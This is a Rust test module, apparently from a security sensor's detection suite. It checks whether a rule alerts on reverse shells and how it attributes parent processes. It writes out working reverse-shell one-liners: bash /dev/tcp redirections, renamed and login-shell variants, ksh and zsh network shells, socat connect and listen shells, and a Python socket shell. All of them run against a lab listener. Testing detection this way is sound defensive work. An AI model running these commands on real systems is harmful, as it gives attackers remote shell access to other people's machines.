//! The installed shells and socat, in the spellings that reverse shells have.

use super::scene::SUITE;
use super::{Case, Tag, tagged};
use crate::expect::Expect;
use crate::lab::{Lab, parent_of, which};
use crate::player::Guard;
use crate::wait::until;
use anyhow::{Context, Result, bail, ensure};
use std::net::{IpAddr, SocketAddr};
use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;

const USERLAND: &[Tag] = &[Tag::Userland];

pub(super) const CASES: &[Case] = &[
    tagged("bash: bash -i >& /dev/tcp/A/P 0>&1", USERLAND, |lab| bash(lab, "bash -i >& /dev/tcp/A/P 0>&1")),
    tagged("bash: the same, forked, since more follows", USERLAND, forked),
    tagged("bash: exec 5<>/dev/tcp/A/P; exec bash -i <&5 >&5 2>&5", USERLAND, |lab| {
        bash(lab, "exec 5<>/dev/tcp/A/P; exec bash -i <&5 >&5 2>&5")
    }),
    tagged("bash: exec bash -i &>/dev/tcp/A/P <&1", USERLAND, |lab| bash(lab, "exec bash -i &>/dev/tcp/A/P <&1")),
    tagged("bash: exec 5<>/dev/tcp/A/P; while read line", USERLAND, without_a_shell),
    tagged("bash: 0<&196;exec 196<>/dev/tcp/A/P; sh -i <&196 >&196 2>&196", USERLAND, descriptor_196),
    tagged("bash: the same, forked for the shell: no alert", USERLAND, descriptor_196_forked),
    tagged("bash: exec setsid bash -i", USERLAND, |lab| {
        bash(lab, "exec 5<>/dev/tcp/A/P; exec setsid bash -i <&5 >&5 2>&5")
    }),
    tagged("bash: exec -a innocent bash -i", USERLAND, renamed),
    tagged("bash: exec bash -l, a login shell", USERLAND, login),
    tagged("bash: to an IPv6 address", USERLAND, |lab| {
        reverse(lab, "bash", lab.remote_v6(), "exec 5<>/dev/tcp/A/P; exec bash -i <&5 >&5 2>&5", &["bash", "-i"])
    }),
    tagged("ksh: exec 5<>/dev/tcp/A/P; exec ksh -i", USERLAND, |lab| {
        reverse(lab, "ksh", lab.remote(), "exec 5<>/dev/tcp/A/P; exec ksh -i <&5 >&5 2>&5", &["ksh", "-i"])
    }),
    tagged("zsh: ztcp A P; exec zsh -i", USERLAND, |lab| {
        let script = "zmodload zsh/net/tcp; ztcp A P; exec zsh -i <&$REPLY >&$REPLY 2>&1";
        reverse(lab, "zsh", lab.remote(), script, &["zsh", "-i"])
    }),
    tagged("socat: TCP EXEC:bash -i,nofork", USERLAND, |lab| socat(lab, "bash -i,nofork", &["bash", "-i"])),
    tagged("socat: TCP EXEC:dash -i,nofork", USERLAND, |lab| socat(lab, "dash -i,nofork", &["dash", "-i"])),
    tagged("socat: TCP EXEC:sh -l,nofork", USERLAND, |lab| socat(lab, "sh -l,nofork", &["sh", "-l"])),
    tagged("socat: TCP EXEC:zsh -i,nofork", USERLAND, |lab| socat(lab, "zsh -i,nofork", &["zsh", "-i"])),
    tagged("socat: TCP EXEC:tcsh -i,nofork", USERLAND, |lab| socat(lab, "tcsh -i,nofork", &["tcsh", "-i"])),
    tagged("socat: TCP EXEC:csh -i,nofork", USERLAND, |lab| socat(lab, "csh -i,nofork", &["csh", "-i"])),
    tagged("socat: TCP EXEC:fish -i,nofork", USERLAND, |lab| socat(lab, "fish -i,nofork", &["fish", "-i"])),
    tagged("socat: TCP EXEC:bash -i, in a child", USERLAND, socat_child),
    tagged("socat: TCP-LISTEN EXEC:bash -i,nofork", USERLAND, socat_listens),
    tagged("socat: EXEC of a script that connects and becomes a shell without flags", USERLAND, |lab| {
        below_socat(lab, false)
    }),
    tagged("socat: the same below TCP-LISTEN,fork", USERLAND, |lab| below_socat(lab, true)),
    tagged("python: its own connection is not this rule's", USERLAND, python),
];

/// The script with the far end's address and port in the places of A and P.
fn fill(script: &str, far: SocketAddr) -> String {
    script
        .replace("/A/", &format!("/{}/", far.ip()))
        .replace("/P", &format!("/{}", far.port()))
        .replace(" A P;", &format!(" {} {};", far.ip(), far.port()))
}

/// The file that a name leads to, as the kernel knows it.
fn installed(name: &str) -> Result<PathBuf> {
    Ok(which(name)?.canonicalize()?)
}

/// The alert of a process that has executed an installed shell.
fn alert(pid: u32, args: &[&str]) -> Result<Expect> {
    let [name, ..] = args else { bail!("no name") };
    Ok(Expect::alert(pid, &installed(name)?, args).field("process.thread.name", name))
}

/// A script of a shell, which connects and executes a shell in one process: its own, or a child that it forks for it.
fn reverse(lab: &Lab, shell: &str, address: IpAddr, script: &str, args: &[&str]) -> Result<()> {
    let far = lab.listen(address)?;
    let process = lab.run(shell, &["-c", &fill(script, far.address)])?;
    let (_connection, near) = far.accept()?;
    let pid = lab.process(args)?;
    let alert = alert(pid, args)?.egress(near, far.address);
    lab.expect(&[if pid == process.pid() {
        alert.parent(std::process::id(), SUITE)
    } else {
        let name = installed(shell)?;
        alert.parent(process.pid(), &name.file_name().unwrap_or_default().to_string_lossy())
    }])
}

fn bash(lab: &Lab, script: &str) -> Result<()> {
    reverse(lab, "bash", lab.remote(), script, &["bash", "-i"])
}

/// The child connects, in a redirection, and the same child executes.
fn forked(lab: &Lab) -> Result<()> {
    let far = lab.listen(lab.remote())?;
    let process = lab.run("bash", &["-c", &fill("bash -i >& /dev/tcp/A/P 0>&1; true", far.address)])?;
    let (_connection, near) = far.accept()?;
    let pid = lab.process(&["bash", "-i"])?;
    ensure!(pid != process.pid(), "bash did not fork here, which this spelling makes it do");
    let alert = alert(pid, &["bash", "-i"])?.egress(near, far.address);
    lab.expect(&[alert.parent(process.pid(), "bash")])
}

/// Commands are read from the connection and executed one by one: no interactive shell, so not this rule's.
fn without_a_shell(lab: &Lab) -> Result<()> {
    use std::io::{BufRead, BufReader, Write};
    let far = lab.listen(lab.remote())?;
    let script = "exec 5<>/dev/tcp/A/P; while read line <&5; do $line 2>&5 >&5; done";
    let _process = lab.run("bash", &["-c", &fill(script, far.address)])?;
    let (mut connection, _) = far.accept()?;
    connection.write_all(b"bash -c pwd\n")?;
    let mut answer = String::new();
    BufReader::new(connection).read_line(&mut answer)?;
    ensure!(answer.trim_end() == lab.directory().to_string_lossy(), "the command was not executed: {answer}");
    lab.expect_none()
}

/// The shell connects; whether it then forks for its last command, and so is not the process that executes, depends on
/// its version. Only if it is does the rule match.
fn descriptor_196(lab: &Lab) -> Result<()> {
    descriptor(lab, "")
}

/// With more to come the shell has to fork: the process that connects is not the one that executes.
fn descriptor_196_forked(lab: &Lab) -> Result<()> {
    descriptor(lab, "; true")
}

fn descriptor(lab: &Lab, more: &str) -> Result<()> {
    let far = lab.listen(lab.remote())?;
    let script = fill("0<&196;exec 196<>/dev/tcp/A/P; sh -i <&196 >&196 2>&196", far.address) + more;
    let process = lab.run("bash", &["-c", &script])?;
    let (_connection, near) = far.accept()?;
    let pid = lab.process(&["sh", "-i"])?;
    if pid == process.pid() {
        ensure!(more.is_empty(), "bash did not fork here, which this spelling makes it do");
        return lab.expect(&[alert(pid, &["sh", "-i"])?.egress(near, far.address)]);
    }
    lab.expect_none()
}

/// What the program is told to call itself is in the arguments, and in no name.
fn renamed(lab: &Lab) -> Result<()> {
    let far = lab.listen(lab.remote())?;
    let script = fill("exec 5<>/dev/tcp/A/P; exec -a innocent bash -i <&5 >&5 2>&5", far.address);
    let process = lab.run("bash", &["-c", &script])?;
    let (_connection, near) = far.accept()?;
    let pid = lab.process(&["innocent", "-i"])?;
    ensure!(pid == process.pid(), "bash forked here, which this spelling does not");
    let alert = Expect::alert(pid, &installed("bash")?, &["innocent", "-i"]).egress(near, far.address);
    lab.expect(&[alert.field("process.thread.name", "bash")])
}

/// A login shell counts by its flag.
fn login(lab: &Lab) -> Result<()> {
    let script = "exec 5<>/dev/tcp/A/P; exec bash -l <&5 >&5 2>&5";
    reverse(lab, "bash", lab.remote(), script, &["bash", "-l"])
}

/// socat connects and becomes the shell. Some shells change their own arguments at once, so /proc does not tell.
fn socat(lab: &Lab, exec: &str, args: &[&str]) -> Result<()> {
    let [name, ..] = args else { bail!("no name") };
    which(name)?;
    let far = lab.listen(lab.remote())?;
    let process = lab.run("socat", &[&format!("TCP:{}", far.address), &format!("EXEC:{exec}")])?;
    let (_connection, near) = far.accept()?;
    let comm = format!("/proc/{}/comm", process.pid());
    until(&format!("socat to become {name}"), || {
        Ok((std::fs::read_to_string(&comm)?.trim_end() == *name).then_some(()))
    })?;
    lab.expect(&[alert(process.pid(), args)?.egress(near, far.address)])
}

/// socat connects and its child becomes the shell: another rule's.
fn socat_child(lab: &Lab) -> Result<()> {
    let far = lab.listen(lab.remote())?;
    let process = lab.run("socat", &[&format!("TCP:{}", far.address), "EXEC:bash -i"])?;
    let _connection = far.accept()?;
    let pid = lab.process(&["bash", "-i"])?;
    ensure!(pid != process.pid(), "socat did not fork");
    lab.expect_none()
}

/// socat accepts and becomes the shell.
fn socat_listens(lab: &Lab) -> Result<()> {
    let at = SocketAddr::new(lab.local(), 4444);
    let listen = format!("TCP-LISTEN:4444,bind={}", at.ip());
    let process = lab.run("socat", &[&listen, "EXEC:bash -i,nofork"])?;
    let connection = lab.connect(lab.remote(), at)?;
    let pid = lab.process(&["bash", "-i"])?;
    ensure!(pid == process.pid(), "socat forked in spite of nofork");
    let alert = alert(pid, &["bash", "-i"])?.ingress(connection.local_addr()?, at);
    lab.expect(if lab.sensor()?.hooks().accept == "off" { vec![] } else { vec![alert] }.as_slice())
}

/// The clause about parents, with socat itself or with a fork of it as the parent.
fn below_socat(lab: &Lab, listening: bool) -> Result<()> {
    let far = lab.listen(lab.remote())?;
    let script = lab.directory().join("inner.sh");
    // Descriptor 6 keeps socat's own stream open: without it socat sees the end and kills its child.
    let inner = fill("exec 6>&1 5<>/dev/tcp/A/P; exec bash <&5 >&5 2>&5", far.address);
    std::fs::write(&script, format!("#!{}\n{inner}\n", which("bash")?.display()))?;
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755))?;
    let at = SocketAddr::new(lab.local(), 4444);
    let listen = format!("TCP-LISTEN:4444,bind={},fork", at.ip());
    let exec = format!("EXEC:{}", script.display());
    let first = if listening { listen.as_str() } else { "PIPE" };
    let process: Guard = lab.run("socat", &[first, &exec])?;
    let _caller = listening.then(|| lab.connect(lab.remote(), at)).transpose()?;
    let (_connection, near) = far.accept()?;
    let pid = lab.process(&["bash"])?;
    let parent = parent_of(pid).context("the shell has ended")?;
    ensure!((parent == process.pid()) != listening, "the parent {parent} is not the one that this test is about");
    let alert = alert(pid, &["bash"])?.egress(near, far.address);
    let name = installed("socat")?;
    let name = name.file_name().unwrap_or_default().to_string_lossy();
    let alert = alert.parent(parent, &name).field("process.parent.args", ["socat", first, &exec]);
    lab.expect(&[alert])
}

/// Python connects and becomes a shell: it is none of the programs that the rule names.
fn python(lab: &Lab) -> Result<()> {
    let far = lab.listen(lab.remote())?;
    let (address, port) = (far.address.ip(), far.address.port());
    let script = format!(
        "import os,socket; s=socket.create_connection(('{address}',{port})); \
         [os.dup2(s.fileno(), n) for n in (0, 1, 2)]; os.execlp('sh', 'sh', '-i')"
    );
    let _process = lab.run("python3", &["-c", &script])?;
    let _connection = far.accept()?;
    lab.process(&["sh", "-i"])?;
    lab.expect_none()
}
